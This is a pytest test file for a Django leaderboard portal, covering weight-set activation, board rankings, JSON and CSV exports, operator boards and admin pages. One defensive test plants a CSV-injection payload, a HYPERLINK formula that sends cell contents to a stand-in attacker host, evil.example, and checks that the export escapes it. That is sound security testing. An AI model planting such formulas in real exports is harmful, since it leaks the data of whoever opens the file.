"""Weight sets, bulk rescoring and boards, with hand-computed numbers."""

from __future__ import annotations

import csv
import io
import re
from typing import Any
from unittest import mock

import pytest
from django.core.management import call_command
from django.db import IntegrityError
from django.test import Client

from leaderboard.models import SubmissionScore, WeightSet
from leaderboard.services import weight_set_activate
from portal.audit.models import AuditEntry
from submissions.models import EvaluationJob, ShapeResult, Submission
from tests.builders import scored_submission
from tests.factories import UserFactory
from tests.leaderboard.boards import WeighedWorld, board, build_weighed_world
from tests.paths import FIXTURE_RELEASE

pytestmark = pytest.mark.django_db


@pytest.fixture
def world() -> WeighedWorld:
    return build_weighed_world()


def test_activating_weights_reorders_the_board_without_running_anything(world: WeighedWorld) -> None:
    release = world.release
    jobs_before = list(EvaluationJob.objects.values_list("pk", "status", "attempts"))
    with mock.patch("submissions.jobs.dispatch_job") as dispatch:
        assert weight_set_activate(weight_set=world.norm_only, actor=None) == 2
        assert board(release) == [("Red", 0.8), ("Blue", 0.2)]
        weight_set_activate(weight_set=world.gemm_only, actor=None)
        assert board(release) == [("Blue", 0.6), ("Red", 0.2)]
    dispatch.assert_not_called()
    assert list(EvaluationJob.objects.values_list("pk", "status", "attempts")) == jobs_before
    # The old version's board is unchanged and can still be viewed.
    assert board(release, world.norm_only.version) == [("Red", 0.8), ("Blue", 0.2)]
    assert WeightSet.objects.filter(release=release, active=True).get() == world.gemm_only
    entry = AuditEntry.objects.filter(action="weights.activate").first()
    assert entry is not None and entry.after == {"active_version": world.gemm_only.version}


def test_weights_are_normalised_and_versions_are_immutable_rows(world: WeighedWorld) -> None:
    assert world.gemm_only.weights["gemm_fp16"] == 1.0
    assert world.gemm_only.weights["rms_norm"] == 0.0
    assert world.gemm_only.version == world.norm_only.version + 1


def test_two_active_weight_sets_are_impossible(world: WeighedWorld) -> None:
    WeightSet.objects.filter(release=world.release).update(active=False)
    WeightSet.objects.filter(pk=world.norm_only.pk).update(active=True)
    with pytest.raises(IntegrityError):
        WeightSet.objects.filter(pk=world.gemm_only.pk).update(active=True)


def test_board_page_json_and_csv_show_the_same_numbers(world: WeighedWorld) -> None:
    release = world.release
    weight_set_activate(weight_set=world.norm_only, actor=None)
    base = f"/boards/{release.pk}/H200/"
    page = Client().get(base).content.decode()
    json_rows = Client().get(f"/api/boards/{release.pk}/H200/").json()["rows"]
    csv_rows = list(csv.DictReader(io.StringIO(
        Client().get(f"/api/boards/{release.pk}/H200/?format=csv").content.decode())))
    cells = re.findall(r'<tr><td data-label="Rank">(\d+)</td><td data-label="Team">([^<]+)</td>'
                       r'.*?<td data-label="[^"]*" class="num">([\d.]+)</td>', page)
    assert [(int(rank), team, float(value)) for rank, team, value in cells] == [
        (r["rank"], r["team"], round(r["aggregate"], 3)) for r in json_rows]
    assert [(int(r["rank"]), r["team"], float(r["aggregate"])) for r in csv_rows] == [
        (r["rank"], r["team"], r["aggregate"]) for r in json_rows]
    assert [r["team"] for r in json_rows] == ["Red", "Blue"]


def test_a_suspicious_result_keeps_the_submission_off_the_board(world: WeighedWorld) -> None:
    ShapeResult.objects.filter(job__candidate__submission__team__name="Red").update(
        suspicious=True)
    weight_set_activate(weight_set=world.norm_only, actor=None)
    assert board(world.release) == [("Blue", 0.2)]
    assert SubmissionScore.objects.filter(ranked=False).count() == 1


def test_import_release_creates_the_first_weight_set_active(capsys: pytest.CaptureFixture[str]) -> None:
    call_command("import_release", str(FIXTURE_RELEASE))
    assert "weights: v1 from the release (active)" in capsys.readouterr().out
    weights = WeightSet.objects.get(active=True).weights
    assert weights["causal_attention"] == pytest.approx(0.35 / sum(
        [0.05, 0.12, 0.10, 0.30, 0.08, 0.35]))


def test_the_operator_board_ranks_teams_by_their_operator_score(world: WeighedWorld) -> None:
    release = world.release
    scored_submission(release, "Green", {"rms_norm": 0.0}, status="failed")  # wrong everywhere
    weight_set_activate(weight_set=world.norm_only, actor=None)
    data = Client().get(f"/api/boards/{release.pk}/H200/operators/gemm_fp16/").json()
    assert [(r["team"], r["score"]) for r in data["rows"]] == [("Blue", 0.6), ("Red", 0.2)]
    assert data["solve_rate"] == 1.0 and data["median_score"] == pytest.approx(0.4)
    norm = Client().get(f"/api/boards/{release.pk}/H200/operators/rms_norm/").json()
    assert [r["team"] for r in norm["rows"]] == ["Red", "Blue", "Green"]
    # Solved = correct and native on every shape: Red and Blue, not Green.
    assert norm["solve_rate"] == pytest.approx(2 / 3) and norm["median_score"] == 0.2
    missing = Client().get(f"/api/boards/{release.pk}/H200/operators/nope/")
    assert missing.status_code == 404


def test_what_changed_between_two_versions(world: WeighedWorld) -> None:
    release = world.release
    weight_set_activate(weight_set=world.norm_only, actor=None)
    weight_set_activate(weight_set=world.gemm_only, actor=None)
    before, after = world.norm_only.version, world.gemm_only.version
    data = Client().get(f"/api/boards/{release.pk}/H200/changes/?from={before}&to={after}").json()
    moves = {r["team"]: (r["rank_before"], r["rank_after"], r["move"]) for r in data["rows"]}
    assert moves == {"Red": (1, 2, -1), "Blue": (2, 1, 1)}


def test_admins_create_and_activate_weights_in_the_page(world: WeighedWorld) -> None:
    release = world.release
    admin = Client()
    admin.force_login(world.root)
    url = f"/staff/releases/{release.pk}/weights/"
    assert admin.post(url, {"w_rms_norm": "-1"}).status_code == 400  # negative refused
    assert admin.post(url, {"w_rms_norm": "0"}).status_code == 400  # none positive
    assert admin.post(url, {"w_rms_norm": "2", "w_gemm_fp16": "2", "note": "halves"}).status_code == 302
    created = WeightSet.objects.get(note="halves")
    assert created.weights["rms_norm"] == 0.5 and created.author.username == "root"
    upload = io.BytesIO(b'{"operators": {"gemm_fp16": {"importance_score": 7}}}')
    upload.name = "operator_importance.json"
    assert admin.post(url, {"importance": upload}).status_code == 302
    from_file = WeightSet.objects.get(source="importance_file")
    assert from_file.weights["gemm_fp16"] == 1.0
    admin.post(url, {"activate": created.version})
    assert WeightSet.objects.get(release=release, active=True) == created
    assert board(release) == [("Red", 0.5), ("Blue", 0.4)]  # (0.8+0.2)/2 and (0.2+0.6)/2
    team_member = Client()
    team_member.force_login(UserFactory(username="plain"))
    assert team_member.get(url).status_code == 302  # to the admin sign-in


def test_submission_charts_give_points_and_operator_scores_to_the_team_only(
        world: WeighedWorld) -> None:
    weight_set_activate(weight_set=world.norm_only, actor=None)
    red = Submission.objects.get(team__name="Red")
    client = Client()
    client.force_login(world.ruby)
    data = client.get(f"/api/submissions/{red.pk}/charts/").json()
    assert len(data["points"]) == 8 + 8  # every shape of rms_norm and gemm_fp16
    assert {p["attainment"] for p in data["points"]} == {0.8, 0.2}
    assert all(p["intensity"] > 0 for p in data["points"])
    assert data["by_operator"]["rms_norm"] == 0.8 and data["ridge_bf16"] == pytest.approx(206.04,
                                                                                        rel=1e-3)
    assert Client().get(f"/api/submissions/{red.pk}/charts/").status_code == 404


def test_the_operator_board_page_shows_the_json_numbers(world: WeighedWorld) -> None:
    release = world.release
    weight_set_activate(weight_set=world.norm_only, actor=None)
    page = Client().get(f"/boards/{release.pk}/H200/operators/gemm_fp16/").content.decode()
    # (the results carry no timing samples: the rank cell also says "no interval")
    cells = re.findall(r"<tr><td>(\d+)(?: <span class=\"badge no interval\">no interval</span>)?"
                       r"</td><td>([^<]+)</td><td>#\d+</td><td class=\"num\">([\d.]+)<", page)
    assert cells == [("1", "Blue", "0.600"), ("2", "Red", "0.200")]
    exported = list(csv.DictReader(io.StringIO(Client().get(
        f"/api/boards/{release.pk}/H200/operators/gemm_fp16/?format=csv").content.decode())))
    assert [(r["rank"], r["team"], f"{float(r['score']):.3f}") for r in exported] == cells
    assert "solve rate (correct and native on every shape)\n   1.00" in page


def test_the_csv_export_neutralises_formulas_in_team_supplied_text(world: WeighedWorld) -> None:
    release = world.release
    weight_set_activate(weight_set=world.norm_only, actor=None)
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    Submission.objects.filter(team__name="Red").update(agent=hyperlink, model_name="@SUM(1)")
    exported = list(csv.DictReader(io.StringIO(Client().get(
        f"/api/boards/{release.pk}/H200/?format=csv").content.decode())))
    red = next(r for r in exported if r["team"] == "Red")
    assert (red["agent"], red["model"]) == ("'" + hyperlink, "'@SUM(1)")
    assert float(red["aggregate"]) > 0  # numbers are still numbers


def test_csv_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers() -> None:
    from leaderboard.exports import EXPORT_COLUMNS, rows_as_csv
    from leaderboard.selectors import NUMBER_COLUMNS

    row: dict[str, Any] = {column: None for column in EXPORT_COLUMNS}
    row.update({"rank": 1, "team": "+Red", "submission": 7, "aggregate": -0.25,
                "output_tokens": 1200, "agent": "-2+3", "model": "\tcmd", "date": "\rx",
                "badges": ["@once", "twice\r=1+1"], "environment": "=GPU()"})
    rows = list(csv.DictReader(io.StringIO(rows_as_csv([row]))))
    assert len(rows) == 1  # a carriage return inside a cell starts no row of its own
    exported = rows[0]
    assert [exported[c] for c in ("team", "agent", "model", "date", "badges", "environment")] == [
        "'+Red", "'-2+3", "'\tcmd", "'\nx", "'@once; twice\n=1+1", "'=GPU()"]
    assert (exported["aggregate"], exported["output_tokens"], exported["rank"]) == (
        "-0.25", "1200", "1")
    assert all(exported[c] == "" for c in NUMBER_COLUMNS if c != "aggregate")


def test_the_exports_are_documented_public_api_views(world: WeighedWorld) -> None:
    """Every board export is in the OpenAPI schema; a public board ignores credentials (a
    stale token in a script is no 401) and answers errors as JSON, CSV asked for or not."""
    release = world.release
    schema = Client().get("/api/schema/?format=json").json()
    for path in ("/api/boards/{id}/{hardware}/", "/api/boards/{id}/{hardware}/{board}/",
                 "/api/boards/{id}/{hardware}/operators/{operator}/",
                 "/api/boards/{id}/{hardware}/analysis/", "/api/boards/{id}/{hardware}/changes/"):
        assert "get" in schema["paths"][path], path
    board_op = schema["paths"]["/api/boards/{id}/{hardware}/"]["get"]
    assert {"text/csv", "application/json"} <= set(board_op["responses"]["200"]["content"])
    assert {p["name"] for p in board_op["parameters"]} >= {"weights", "board", "all", "sort",
                                                           "format"}
    stale = Client(headers={"Authorization": "Bearer atx_revoked-long-ago"})
    answer = stale.get(f"/api/boards/{release.pk}/H200/?weights={world.norm_only.version}")
    assert answer.status_code == 200 and isinstance(answer.json()["rows"], list)
    for missing in (f"/api/boards/{release.pk}/H200/?format=csv&weights=99",
                    f"/api/boards/{release.pk}/H200/nope/?format=csv",
                    f"/api/boards/{release.pk}/B300/operators/rms_norm/?format=csv"):
        response = Client().get(missing)
        assert response.status_code == 404 and response["Content-Type"] == "application/json"
        assert "detail" in response.json()
    # ?format decides, whatever the Accept header a script sends (the atrex CLI's is JSON)
    version = world.norm_only.version
    as_csv = Client(headers={"Accept": "application/json"}).get(
        f"/api/boards/{release.pk}/H200/?format=csv&weights={version}")
    assert as_csv.status_code == 200 and as_csv["Content-Type"].startswith("text/csv")
    assert as_csv.content.decode().startswith("rank,team,submission,dsl,aggregate")
    huge = Client().get(f"/api/boards/{release.pk}/H200/?weights={'9' * 30}")
    assert huge.status_code == 404  # no version: not a database overflow
